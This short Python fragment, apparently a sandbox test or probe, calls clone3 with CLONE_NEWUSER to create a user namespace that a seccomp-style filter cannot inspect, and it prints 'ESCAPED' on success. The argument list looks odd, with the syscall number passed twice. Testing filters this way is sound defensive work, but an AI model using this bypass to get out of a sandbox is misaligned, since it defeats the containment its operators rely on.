"""Makes a user namespace with clone3, whose flags no filter sees."""

CLONE_NEWUSER = 0x10000000
arguments = ctypes.create_string_buffer(
    struct.pack("QQQQQQQQ", CLONE_NEWUSER, 0, 0, 0, signal.SIGCHLD, 0, 0, 0)
)
if call(435, 435, arguments, 64) == 0:
    os._exit(0)
print("ESCAPED")
